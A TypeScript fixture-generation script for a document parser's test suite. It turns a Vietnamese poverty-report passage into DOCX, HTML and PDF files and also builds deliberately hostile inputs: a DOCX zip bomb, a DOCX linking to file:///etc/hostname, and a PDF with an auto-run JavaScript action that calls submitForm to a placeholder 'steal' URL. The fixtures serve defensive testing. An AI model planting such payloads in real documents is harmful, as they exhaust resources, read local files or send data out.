// Regenerates corpus/fixtures from the f01 passage (corpus/passages/f01_*.txt) and builds the
// hostile files the parser tests use. The passage text is the single source: its lines are read
// back into headings, paragraphs, footnotes and a table, then rendered as DOCX (docx package),
// HTML (a provincial news page with its boilerplate) and PDF (LibreOffice from the DOCX), so the
// same figures stand in every format. Needs `soffice` and `qpdf` (Debian: libreoffice-writer-nogui,
// qpdf); the test suite only reads what this script commits.
// Usage: node bin/run.js scripts/make-fixtures.ts
import { readFileSync, writeFileSync, mkdirSync, readdirSync, rmSync, renameSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join, basename } from 'node:path';
import iconv from 'iconv-lite';
import {
  Document,
  Packer,
  Paragraph,
  TextRun,
  HeadingLevel,
  FootnoteReferenceRun,
  Table,
  TableRow,
  TableCell,
  WidthType,
  AlignmentType,
  Header,
  Footer,
  PageNumber,
} from 'docx';
import { encodeVni } from '../src/text/legacy.ts';
import { W, para, documentXml, minimalDocx, pdfOf, stream, encodeCp1258 } from './fixture-kit.ts';

const ROOT = join(import.meta.dirname, '..');
const PASSAGES = join(ROOT, 'corpus/passages');
const FIXTURES = join(ROOT, 'corpus/fixtures');
const HOSTILE = join(FIXTURES, 'hostile');
const LEGACY = join(FIXTURES, 'legacy');

// ---- the passage, read back into parts -------------------------------------------------------

type Inline = { text: string } | { fn: number };
type Part =
  | { kind: 'title'; text: string }
  | { kind: 'heading'; level: 1 | 2; text: string }
  | { kind: 'para'; inlines: Inline[] }
  | { kind: 'caption'; text: string }
  | { kind: 'table'; header: string[]; rows: string[][] };
interface Passage {
  parts: Part[];
  footnotes: Map<number, string>;
}

function readPassage(text: string): Passage {
  const parts: Part[] = [];
  const footnotes = new Map<number, string>();
  const lines = text.split('\n').filter((l) => l.trim() !== '');
  lines.forEach((line, i) => {
    const fn = /^\[(\d+): (.*)\]$/.exec(line);
    if (fn) footnotes.set(Number(fn[1]), fn[2]);
    else if (i < 2) parts.push({ kind: 'title', text: line });
    else if (/^[IVX]+\. /.test(line)) parts.push({ kind: 'heading', level: 1, text: line });
    else if (/^\d+\. /.test(line)) parts.push({ kind: 'heading', level: 2, text: line });
    else if (/^Phụ lục/.test(line)) parts.push({ kind: 'caption', text: line });
    else if (line.includes('\t')) {
      const cells = line.split('\t');
      const last = parts.at(-1);
      if (last?.kind === 'table') last.rows.push(cells);
      else parts.push({ kind: 'table', header: cells, rows: [] });
    } else parts.push({ kind: 'para', inlines: splitRefs(line) });
  });
  return { parts, footnotes };
}

function splitRefs(line: string): Inline[] {
  return line.split(/\[footnoteRef:(\d+)\]/).map((s, i) => (i % 2 ? { fn: Number(s) } : { text: s }));
}

// ---- DOCX -------------------------------------------------------------------------------------

function docxOf(p: Passage, title: string): Promise<Buffer> {
  const runs = (inl: Inline[]) =>
    inl.map((x) => ('fn' in x ? new FootnoteReferenceRun(x.fn) : new TextRun(x.text)));
  const cellOf = (t: string) =>
    new TableCell({ children: [new Paragraph(t)], width: { size: 2250, type: WidthType.DXA } });
  const firstPart = p.parts.find((x) => x.kind === 'heading' && x.level === 1);
  const children = p.parts.map((part) => {
    switch (part.kind) {
      case 'title':
        return new Paragraph({ alignment: AlignmentType.CENTER, children: [new TextRun({ text: part.text, bold: true })] });
      case 'heading':
        // Each part after the first starts a page, so the PDF has running headers and page numbers to drop.
        return new Paragraph({
          heading: part.level === 1 ? HeadingLevel.HEADING_1 : HeadingLevel.HEADING_2,
          text: part.text,
          pageBreakBefore: part.level === 1 && part !== firstPart,
        });
      case 'caption':
        return new Paragraph({ children: [new TextRun({ text: part.text, bold: true })] });
      case 'para':
        return new Paragraph({ children: runs(part.inlines) });
      case 'table':
        return new Table({
          rows: [
            new TableRow({ tableHeader: true, children: part.header.map(cellOf) }),
            ...part.rows.map((r) => new TableRow({ children: r.map(cellOf) })),
          ],
        });
    }
  });
  const footnotes = Object.fromEntries(
    [...p.footnotes].map(([n, t]) => [n, { children: [new Paragraph(t)] }]),
  );
  const header = new Header({ children: [new Paragraph('UBND tỉnh Lai Châu - Báo cáo giảm nghèo bền vững năm 2023')] });
  const footer = new Footer({
    children: [new Paragraph({ alignment: AlignmentType.CENTER, children: [new TextRun({ children: ['Trang ', PageNumber.CURRENT] })] })],
  });
  const doc = new Document({
    title,
    creator: 'solieu fixtures',
    footnotes,
    sections: [{ headers: { default: header }, footers: { default: footer }, children }],
  });
  return Packer.toBuffer(doc);
}

// ---- HTML: a provincial news page, boilerplate included ---------------------------------------

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

function htmlOf(p: Passage, title: string): string {
  const inline = (inl: Inline[]) =>
    inl
      .map((x) => ('fn' in x ? `<sup><a href="#fn${x.fn}" id="ref${x.fn}">${x.fn}</a></sup>` : esc(x.text)))
      .join('');
  const body = p.parts
    .map((part) => {
      switch (part.kind) {
        case 'title':
          return `<p class="lead"><strong>${esc(part.text)}</strong></p>`;
        case 'heading':
          return part.level === 1 ? `<h2>${esc(part.text)}</h2>` : `<h3>${esc(part.text)}</h3>`;
        case 'caption':
          return `<p><strong>${esc(part.text)}</strong></p>`;
        case 'para':
          return `<p>${inline(part.inlines)}</p>`;
        case 'table':
          return [
            '<table class="table-data">',
            `<thead><tr>${part.header.map((c) => `<th>${esc(c)}</th>`).join('')}</tr></thead>`,
            '<tbody>',
            ...part.rows.map((r) => `<tr>${r.map((c) => `<td>${esc(c)}</td>`).join('')}</tr>`),
            '</tbody></table>',
          ].join('\n');
      }
    })
    .join('\n');
  const notes = [...p.footnotes]
    .map(([n, t]) => `<li id="fn${n}">${esc(t)} <a href="#ref${n}">↩</a></li>`)
    .join('\n');
  return `<!DOCTYPE html>
<html lang="vi">
<head>
<meta charset="utf-8">
<title>${esc(title)} - Báo Lai Châu điện tử</title>
<meta property="og:title" content="${esc(title)}">
<meta property="og:site_name" content="Báo Lai Châu điện tử">
<meta property="article:published_time" content="2024-01-16T15:30:00+07:00">
<script>var pageViews = 125430; var adSlot = "Quảng cáo 500 triệu đồng"; window.dataLayer = [{ price: "99%" }];</script>
<style>.menu li { display: inline }</style>
</head>
<body>
<header class="site-header">
  <div class="logo">Báo Lai Châu điện tử</div>
  <nav class="main-menu"><ul><li><a href="/">Trang chủ</a></li><li><a href="/thoi-su">Thời sự</a></li><li><a href="/kinh-te">Kinh tế</a></li><li><a href="/giam-ngheo">Giảm nghèo</a></li></ul></nav>
</header>
<div class="breadcrumb"><a href="/">Trang chủ</a> / <a href="/kinh-te">Kinh tế</a></div>
<main>
<div class="detail">
  <h1 class="detail-title">${esc(title)}</h1>
  <div class="detail-meta"><span class="author">Minh Anh</span> <span class="post-date">16/01/2024 15:30</span></div>
  <div class="share-bar">Chia sẻ: <a href="#">Facebook</a> <a href="#">Zalo</a> <span class="like-count">1.250 lượt thích</span></div>
  <div class="detail-content">
${body}
<p><strong>Ghi chú:</strong></p>
<ol class="footnotes">
${notes}
</ol>
  </div>
  <p class="byline">Minh Anh</p>
  <div class="tags">Từ khóa: <a href="#">giảm nghèo</a> <a href="#">Lai Châu</a></div>
</div>
<div class="related-news">
  <h3>Tin liên quan</h3>
  <ul>
    <li><a href="/a1">Lai Châu giải ngân 500 tỷ đồng vốn đầu tư công trong quý IV</a></li>
    <li><a href="/a2">Tỷ lệ hộ nghèo vùng cao giảm 4,5% trong năm</a></li>
  </ul>
</div>
</main>
<aside class="sidebar">
  <div class="box"><h3>Thống kê truy cập</h3><p>Đang truy cập: 125</p><p>Tổng lượt truy cập: 8.456.789</p></div>
</aside>
<footer class="site-footer"><p>Giấy phép số 12/GP-BTTTT. Tòa soạn: 135 đường Trần Hưng Đạo, thành phố Lai Châu. Điện thoại: 0213 3876 543.</p></footer>
<script>document.querySelectorAll('.like-count').forEach(function (e) { e.textContent = 2000 + ' lượt'; });</script>
</body>
</html>
`;
}

/** A picture whose relationship points at a file outside the document (r:link, TargetMode External). */
function externalImageDocx(target: string): Buffer {
  const ns =
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
  const drawing = `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="p" descr="ảnh"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdImg"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const rels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${target}" TargetMode="External"/></Relationships>`;
  const xml = documentXml(para('Huyện đã giải ngân 1.250 triệu đồng.') + drawing, ns);
  return minimalDocx(xml, rels);
}

/** A small zip whose document.xml inflates to ~300 MB of empty paragraphs. */
function zipBombDocx(): Buffer {
  const unit = Buffer.from('<w:p/>');
  const huge = Buffer.alloc(300 * 1024 * 1024 - (300 * 1024 * 1024) % unit.length);
  for (let i = 0; i < huge.length; i += unit.length) unit.copy(huge, i);
  const head = Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body>`);
  const xml = Buffer.concat([head, huge, Buffer.from('</w:body></w:document>')]);
  // The declared size is a lie (1 KB): the guard must not trust it alone.
  return minimalDocx(xml.toString('latin1'), undefined, 1024);
}

// ---- PDF by hand (JavaScript action; no text layer) ------------------------------------------

function javascriptPdf(): Buffer {
  const content = 'BT /F1 12 Tf 72 720 Td (Giai ngan 1.250 trieu dong, dat 80%.) Tj ET';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
    stream(content),
    "<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');) >>",
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

function scannedPdf(): Buffer {
  // A page that only paints (as a scan's image would): no text operators at all.
  const content = '0.5 g 72 72 468 648 re f';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    stream(content),
  ]);
}

// ---- legacy encodings ---------------------------------------------------------------------------

const LEGACY_TEXT = `Năm 2023, tỉnh Lai Châu đã giải ngân 298.764 triệu đồng vốn của chương trình giảm nghèo bền vững, đạt 72,4% kế hoạch được giao.
Tỷ lệ hộ nghèo giảm còn 17,82%; các huyện đã đầu tư 86 công trình, trong đó có 52 công trình giao thông.
`;

// ---- main ---------------------------------------------------------------------------------------

async function main(): Promise<void> {
  mkdirSync(HOSTILE, { recursive: true });
  mkdirSync(LEGACY, { recursive: true });
  for (const file of readdirSync(PASSAGES).filter((n) => /^f\d+_.*\.txt$/.test(n))) {
    const stem = basename(file, '.txt');
    const passage = readPassage(readFileSync(join(PASSAGES, file), 'utf8'));
    const titleParts = passage.parts.filter((p) => p.kind === 'title');
    const title = titleParts.at(-1)?.text ?? stem;
    writeFileSync(join(FIXTURES, `${stem}.docx`), await docxOf(passage, title));
    writeFileSync(join(FIXTURES, `${stem}.html`), htmlOf(passage, title));
    const out = join(FIXTURES, 'tmp-pdf');
    execFileSync('soffice', ['--headless', '--convert-to', 'pdf', '--outdir', out, join(FIXTURES, `${stem}.docx`)], { stdio: 'ignore' });
    renameSync(join(out, `${stem}.pdf`), join(FIXTURES, `${stem}.pdf`));
    rmSync(out, { recursive: true });
  }

  const docx = readFileSync(join(FIXTURES, readdirSync(FIXTURES).find((n) => n.endsWith('.docx'))!));
  const pdf = readFileSync(join(FIXTURES, readdirSync(FIXTURES).find((n) => n.endsWith('.pdf'))!));
  writeFileSync(join(HOSTILE, 'truncated.docx'), docx.subarray(0, Math.floor(docx.length / 2)));
  writeFileSync(join(HOSTILE, 'corrupt.docx'), minimalDocx(`<w:document ${W}><w:body><w:p><w:r><w:t>Hỏng`));
  writeFileSync(join(HOSTILE, 'zip-bomb.docx'), zipBombDocx());
  writeFileSync(join(HOSTILE, 'external-image.docx'), externalImageDocx('file:///etc/hostname'));
  writeFileSync(join(HOSTILE, 'truncated.pdf'), pdf.subarray(0, Math.floor(pdf.length / 2)));
  writeFileSync(join(HOSTILE, 'corrupt.pdf'), Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4096, 0x5a), Buffer.from('\n%%EOF\n')]));
  writeFileSync(join(HOSTILE, 'javascript.pdf'), javascriptPdf());
  writeFileSync(join(HOSTILE, 'scanned.pdf'), scannedPdf());
  const pdfPath = join(FIXTURES, readdirSync(FIXTURES).find((n) => n.endsWith('.pdf'))!);
  execFileSync('qpdf', ['--encrypt', 'mat-khau', 'chu-so-huu', '256', '--', pdfPath, join(HOSTILE, 'encrypted.pdf')]);

  writeFileSync(join(LEGACY, 'expected.txt'), LEGACY_TEXT);
  writeFileSync(join(LEGACY, 'vni.txt'), encodeVni(LEGACY_TEXT));
  writeFileSync(join(LEGACY, 'tcvn3.txt'), iconv.encode(LEGACY_TEXT, 'tcvn'));
  writeFileSync(join(LEGACY, 'windows-1258.txt'), encodeCp1258(LEGACY_TEXT));
  writeFileSync(join(LEGACY, 'utf-16le.txt'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(LEGACY_TEXT, 'utf16le')]));
  console.log('fixtures written to', FIXTURES);
}

await main();
